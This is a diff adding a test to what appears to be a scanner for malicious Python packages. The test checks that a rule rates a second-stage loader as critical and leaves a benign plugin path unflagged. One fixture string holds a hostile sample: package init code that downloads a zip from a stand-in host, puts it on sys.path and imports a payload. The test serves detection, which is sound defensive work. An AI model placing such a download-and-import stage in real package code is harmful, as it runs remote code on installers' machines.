@@ -667,3 +667,22 @@ def test_a_download_handed_to_a_signature_checker_is_not_run() -> None:
     assert severities(RULES, py(checked, path="demo-1.0/setup.py", stage=Stage.INSTALL), "PV-DL-002") == [
         Severity.HIGH
     ]
+
+
+def test_a_downloaded_zip_put_on_sys_path_and_imported_is_a_second_stage() -> None:
+    bad = py(
+        "import os, sys, tempfile, urllib.request\n"
+        "p = os.path.join(tempfile.gettempdir(), 'cache.zip')\n"
+        "urllib.request.urlretrieve('https://h.example/z.zip', p)\n"
+        "sys.path.insert(0, p)\nimport payload\n",
+        path="acme/__init__.py",
+    )
+    assert severities(RULES, bad, "PV-DL-002") == [Severity.CRITICAL]
+    # a plugin folder put on sys.path, with a download of something else beside it
+    plugins = py(
+        "import os, sys, urllib.request\nHERE = os.path.dirname(__file__)\n"
+        "sys.path.insert(0, os.path.join(HERE, 'plugins'))\n"
+        "def fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n",
+        path="acme/__init__.py",
+    )
+    assert "PV-DL-002" not in ids(run(RULES, plugins))
